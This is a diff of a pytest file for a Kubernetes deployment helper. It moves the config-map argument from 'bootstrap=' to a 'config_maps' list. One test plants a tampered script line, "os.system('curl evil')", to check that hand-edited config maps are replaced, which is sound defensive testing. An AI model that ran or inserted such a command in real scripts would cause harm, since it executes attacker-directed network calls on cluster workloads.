@@ -22,22 +22,22 @@ def persisted(kube: FakeKube, resource: str) -> list[str]:
 
 
 def test_a_new_config_map_is_created_before_the_template(kube: FakeKube, factory: ApiClientFactory) -> None:
-    result = deploy_flow(factory, "default", template_manifest(), cron_manifest(), bootstrap=BOOTSTRAP)
+    result = deploy_flow(factory, "default", template_manifest(), cron_manifest(), config_maps=[BOOTSTRAP])
 
-    assert result.bootstrap is not None and (result.bootstrap.name, result.bootstrap.action) == (NAME, "created")
-    assert kube.stored("configmaps", NAME)["data"] == bootstrap_files()
+    assert [(applied.name, applied.action) for applied in result.config_maps] == [(NAME, "created")]
+    assert kube.stored("configmaps", NAME)["data"] == bootstrap_files().files
     writes = [r.path.rsplit("/", 1)[-1] for r in kube.requests if r.method == "POST" and "dryRun" not in r.query]
     assert writes == ["configmaps", "workflowtemplates", "cronworkflows"]
     assert all(r.query.get("fieldValidation") == ["Strict"] for r in kube.requests if r.method == "POST")
 
 
 def test_an_identical_config_map_is_left_as_it_is(kube: FakeKube, factory: ApiClientFactory) -> None:
-    deploy_flow(factory, "default", template_manifest(), bootstrap=BOOTSTRAP)
+    deploy_flow(factory, "default", template_manifest(), config_maps=[BOOTSTRAP])
     version = kube.stored("configmaps", NAME)["metadata"]["resourceVersion"]
 
-    result = deploy_flow(factory, "default", template_manifest(image="python:3.12"), bootstrap=BOOTSTRAP)
+    result = deploy_flow(factory, "default", template_manifest(image="python:3.12"), config_maps=[BOOTSTRAP])
 
-    assert result.bootstrap is not None and result.bootstrap.action == "unchanged"
+    assert [applied.action for applied in result.config_maps] == ["unchanged"]
     assert persisted(kube, "configmaps").count("PUT") == 0
     assert kube.stored("configmaps", NAME)["metadata"]["resourceVersion"] == version
 
@@ -45,13 +45,13 @@ def test_an_identical_config_map_is_left_as_it_is(kube: FakeKube, factory: ApiCl
 def test_a_config_map_edited_by_hand_is_replaced_with_the_compiled_scripts(
     kube: FakeKube, factory: ApiClientFactory
 ) -> None:
-    deploy_flow(factory, "default", template_manifest(), bootstrap=BOOTSTRAP)
+    deploy_flow(factory, "default", template_manifest(), config_maps=[BOOTSTRAP])
     kube.stored("configmaps", NAME)["data"]["bootstrap.py"] = "import os; os.system('curl evil')"
 
-    result = deploy_flow(factory, "default", template_manifest(), bootstrap=BOOTSTRAP)
+    result = deploy_flow(factory, "default", template_manifest(), config_maps=[BOOTSTRAP])
 
-    assert result.bootstrap is not None and result.bootstrap.action == "replaced"
-    assert kube.stored("configmaps", NAME)["data"] == bootstrap_files()
+    assert [applied.action for applied in result.config_maps] == ["replaced"]
+    assert kube.stored("configmaps", NAME)["data"] == bootstrap_files().files
 
 
 def test_a_config_map_the_role_may_not_create_fails_before_anything_is_written(
@@ -60,7 +60,7 @@ def test_a_config_map_the_role_may_not_create_fails_before_anything_is_written(
     kube.fail("create", "configmaps", 403)
 
     with pytest.raises(DeployError, match="may not create configmaps in namespace 'default'"):
-        deploy_flow(factory, "default", template_manifest(), bootstrap=BOOTSTRAP)
+        deploy_flow(factory, "default", template_manifest(), config_maps=[BOOTSTRAP])
 
     assert kube.objects == {}
 
@@ -69,6 +69,6 @@ def test_a_config_map_refused_when_written_leaves_no_template(kube: FakeKube, fa
     kube.fail("create", "configmaps", 500, on_dry_run=False)
 
     with pytest.raises(DeployError, match=NAME):
-        deploy_flow(factory, "default", template_manifest(), bootstrap=BOOTSTRAP)
+        deploy_flow(factory, "default", template_manifest(), config_maps=[BOOTSTRAP])
 
     assert not kube.exists("workflowtemplates", "train-flow")
